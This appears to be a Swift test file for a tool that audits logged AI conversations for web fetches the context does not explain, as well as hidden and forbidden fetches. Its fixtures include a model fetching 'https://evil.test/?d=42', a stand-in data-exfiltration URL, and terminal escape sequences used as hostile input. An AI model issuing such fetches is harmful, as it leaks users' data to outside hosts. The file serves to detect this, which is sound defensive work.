import Foundation
import TestSupport
import Testing

@Suite struct TranscriptTests {
  private let request = #"{"messages":[{"role":"user","content":"read https://e.test/a please"}]}"#
  private let response = """
    {"id":"msg_1","role":"assistant","content":[\
    {"type":"server_tool_use","id":"s1","name":"web_fetch","input":{"url":"https://e.test/a"}},\
    {"type":"text","text":"and https://evil.test/?d=42"},\
    {"type":"server_tool_use","id":"s2","name":"web_fetch","input":{"url":"https://evil.test/?d=42"}}],\
    "usage":{"server_tool_use":{"web_fetch_requests":3}}}
    """

  private func pair(_ response: String? = nil) -> String {
    "{\"request\":\(request),\"response\":\(response ?? self.response)}\n"
  }

  @Test func `every fetch is listed with the text that gave it, or as unexplained, or as hidden`() throws {
    let scratch = try Scratch()
    let outcome = try Command.gatecrash.run(["transcript", try scratch.file("log.jsonl", pair())])
    #expect(outcome.status == 1)
    let lines = outcome.text.split(separator: "\n").map(String.init)
    #expect(lines[0].hasSuffix("log.jsonl:1 msg_1, message 1, block 0: explained, no result"))
    #expect(lines[2] == "  from a user message: message 0, block 0, text, bytes 5-21, read as white-space")
    #expect(lines[3].hasSuffix("block 2: UNEXPLAINED, no result"))
    #expect(lines.contains { $0.hasPrefix("  it does stand in text of the model: message 1, block 1") })
    #expect(lines.contains { $0.hasSuffix("msg_1: hidden, 1") })
    #expect(outcome.text.contains("2 fetches in 1 conversation: 1 explained, 1 UNEXPLAINED, 1 hidden."))
    #expect(outcome.text.contains("the time between fetches is not bounded"))
  }

  @Test func `each line of JSON is an object, and the last one is the summary`() throws {
    let outcome = try Command.gatecrash.run(
      ["transcript", "-", "--format", "jsonl"], input: Data((pair() + pair()).utf8))
    #expect(outcome.status == 1)
    let objects = try outcome.text.split(separator: "\n").map {
      try #require(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])
    }
    #expect(objects.count == 7)
    #expect(objects.map { $0["line"] as? Int } == [1, 1, 1, 2, 2, 2, nil])
    #expect(objects[1]["cause"] as? String == "not-in-context")
    #expect((objects[0]["witness"] as? [String: Any])?["source"] as? String == "user")
    let summary = try #require(objects[6]["summary"] as? [String: Any])
    #expect(summary["fetches"] as? Int == 4 && summary["unexplained"] as? Int == 2)
    #expect(summary["hidden"] as? Int == 2 && summary["findings"] as? Int == 4)
  }

  @Test func `a clean transcript ends with 0`() throws {
    let clean = #"""
      {"role":"assistant","content":[{"type":"server_tool_use","id":"s1","name":"web_fetch","input":{"url":"https://e.test/a"}}]}
      """#
    let outcome = try Command.gatecrash.run(["transcript", "-"], input: Data(pair(clean).utf8))
    #expect(outcome.status == 0)
    #expect(outcome.text.contains("1 fetch in 1 conversation: 1 explained."))
  }

  @Test func `results of a batch find their requests by custom_id`() throws {
    let scratch = try Scratch()
    let requests = try scratch.file(
      "requests.jsonl",
      #"{"custom_id":"a","params":{"messages":[{"role":"user","content":"nothing"}]}}"# + "\n"
        + #"{"custom_id":"b","params":"# + request + "}\n")
    let results = try scratch.file(
      "results.jsonl",
      #"{"custom_id":"b","result":{"type":"succeeded","message":"# + response + "}}\n"
        + #"{"custom_id":"a","result":{"type":"expired"}}"# + "\n")
    let alone = try Command.gatecrash.run(["transcript", results])
    #expect(alone.status == 1)
    #expect(alone.text.contains("2 without its prompt, 1 hidden"))
    #expect(alone.text.contains("--requests"))
    let joined = try Command.gatecrash.run(["transcript", results, "--requests", requests])
    #expect(joined.status == 1)
    #expect(joined.text.contains("1 explained, 1 UNEXPLAINED, 1 hidden"))
  }

  @Test func `the lists and limits of the request are enforced`() throws {
    let request = #"""
      {"tools":[{"type":"web_fetch_20260318","name":"web_fetch","allowed_domains":["e.test"]}],
       "messages":[{"role":"user","content":"https://e.test/a https://other.test/"}]}
      """#
    let response = #"""
      {"role":"assistant","content":[
       {"type":"server_tool_use","id":"s1","name":"web_fetch","input":{"url":"https://e.test/a"}},
       {"type":"server_tool_use","id":"s2","name":"web_fetch","input":{"url":"https://other.test/"}}]}
      """#
    let outcome = try Command.gatecrash.run(
      ["transcript", "-"], input: Data("{\"request\":\(request),\"response\":\(response)}".utf8))
    #expect(outcome.status == 1)
    #expect(outcome.text.contains("1 explained, 1 FORBIDDEN"))
    #expect(outcome.text.contains("The domain lists do not permit this URL."))
  }

  @Test func `hostile text does not reach the terminal as it is`() throws {
    let request = #"{"messages":[{"role":"user","content":"x"}]}"#
    let response = #"""
      {"id":"\u001b[31mid","role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://e.test/\u202e\u001b]0;x\u0007"}}]}
      """#
    let outcome = try Command.gatecrash.run(
      ["transcript", "-"], input: Data("{\"request\":\(request),\"response\":\(response)}".utf8))
    #expect(outcome.status == 1)
    #expect(outcome.output.allSatisfy { $0 == 0x0A || (0x20..<0x7F).contains($0) })
    #expect(outcome.text.contains(#"\u{202E}"#))
  }

  struct Bad: Sendable, CustomTestStringConvertible {
    var input: String
    var complaint: String
    var testDescription: String { complaint }
  }

  @Test(arguments: [
    Bad(input: "", complaint: "standard input:1: is the end: there is nothing to read. Check that"),
    Bad(
      input: "GET / HTTP/1.1\n", complaint: "standard input:1: is neither JSON nor an event of a stream. Give"
    ),
    Bad(input: "\n{\"messages\":3}\n", complaint: "standard input:2: messages: is not a list. Mend"),
    Bad(
      input: "{\"messages\":[]}\n{", complaint: "standard input:2: begins an object that does not end. Check"),
    Bad(
      input: "{\"x\":\"" + String(repeating: "y", count: 2 << 20) + "\"}",
      complaint:
        "standard input:1: holds an object of more than 1 MiB, from byte 0 on; it was left out. Raise --max-object"
    ),
  ])
  func `what cannot be read is named by line and remedy, and ends with 65`(_ row: Bad) throws {
    let outcome = try Command.gatecrash.run(
      ["transcript", "-", "--max-object", "1"], input: Data(row.input.utf8))
    #expect(outcome.status == 65)
    #expect(outcome.complaint.contains(row.complaint), "\(outcome.complaint)")
  }

  @Test func `files that are not there, folders and unknown rules are refused`() throws {
    let scratch = try Scratch()
    let missing = try Command.gatecrash.run(["transcript", "missing.jsonl"])
    #expect(missing.status == 65)
    #expect(missing.complaint.contains("missing.jsonl: does not exist. Check the path."))
    let folder = try Command.gatecrash.run(["transcript", scratch.folder.path])
    #expect(folder.status == 65)
    #expect(folder.complaint.contains("is a directory. Name the files in it."))
    let rules = try Command.gatecrash.run(["transcript", "-", "--rules", "2024"])
    #expect(rules.status == 64)
    #expect(rules.complaint.contains("Known are 2025-11, 2026-06, 2026-11."))
  }

  @Test func `output that cannot be written ends with 74`() throws {
    let scratch = try Scratch()
    let log = try scratch.file("log.jsonl", String(repeating: pair(), count: 200))
    let shell = Command(executable: URL(fileURLWithPath: "/bin/sh"))
    let program = Command.gatecrash.executable.path
    let outcome = try shell.run(["-c", "'\(program)' transcript '\(log)' > /dev/full"])
    #expect(outcome.status == 74)
  }
}
